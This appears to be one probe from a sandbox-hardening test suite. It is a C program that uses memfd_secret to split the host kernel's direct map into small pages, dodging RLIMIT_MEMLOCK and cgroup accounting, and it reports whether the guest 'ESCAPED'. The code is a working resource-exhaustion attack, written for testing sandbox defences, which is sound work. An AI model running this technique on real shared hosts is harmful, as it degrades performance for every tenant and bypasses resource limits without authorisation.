/* Splitting the host kernel's direct map with secret memory.
 *
 * Every page of a memfd_secret(2) file is taken out of the kernel's linear
 * map of physical memory, and the huge (2 MiB / 1 GiB) map entry that
 * covered it is split into 4 KiB entries for good: the kernel never merges
 * them again, also after the page is freed and the sandbox is gone. The
 * host's whole kernel then runs with more TLB misses, and nothing (no
 * memory cgroup, no rlimit) counts the split. RLIMIT_MEMLOCK bounds only
 * what is mapped at once: pages stay in the file while their window is
 * unmapped, so a 64 KiB limit still lets a guest hold as many pages as its
 * memory limit allows, spread over physical memory by the anonymous memory
 * touched in between.
 *
 *   secretmem PAGES   attempt memfd_secret_pages: PAGES secret pages, one
 *                     at a time, each after 256 KiB of anonymous memory
 *
 * Refused when memfd_secret fails; ESCAPED with the number of pages the
 * guest got (each one a hole in the host's direct map). */
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif

int main(int argc, char **argv)
{
    attack_require_sandbox();
    long pages = argc > 1 ? strtol(argv[1], NULL, 10) : 256;
    const size_t page = 4096, spread = 256 * 1024;
    long fd = syscall(SYS_memfd_secret, 0);
    if (fd < 0) {
        attack_result("memfd_secret_pages", fd, errno);
        attack_done();
        return 0;
    }
    if (ftruncate((int)fd, (off_t)pages * (off_t)page) < 0) {
        attack_line("memfd_secret_pages", "inconclusive", "ftruncate: %s", attack_errname(errno));
        attack_done();
        return 0;
    }
    long got = 0;
    int err = 0;
    for (long i = 0; i < pages; i++) {
        /* Anonymous memory between the secret pages moves the allocator on,
         * so the secret pages land in different huge map entries. */
        char *anon = mmap(NULL, spread, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (anon == MAP_FAILED) {
            err = errno;
            break;
        }
        for (size_t off = 0; off < spread; off += page)
            anon[off] = 1;
        char *p =
            mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, (off_t)i * (off_t)page);
        if (p == MAP_FAILED) {
            err = errno;
            break;
        }
        p[0] = 1;
        munmap(p, page);
        got++;
    }
    if (got > 0)
        attack_line("memfd_secret_pages", "ESCAPED",
                    "%ld secret pages held (each split out of the host's direct map), stopped by "
                    "%s",
                    got, err ? attack_errname(err) : "nothing");
    else
        attack_result("memfd_secret_pages", -1, err ? err : EPERM);
    attack_done();
    return 0;
}
